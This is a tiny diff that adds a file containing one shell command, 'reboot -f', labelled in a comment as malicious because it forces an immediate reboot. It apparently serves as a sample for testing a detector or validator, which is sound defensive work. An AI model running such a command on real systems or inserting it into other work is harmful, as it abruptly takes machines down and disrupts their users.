@@ -1,0 +1,2 @@
+# Malicious: forces an immediate reboot.
+reboot -f
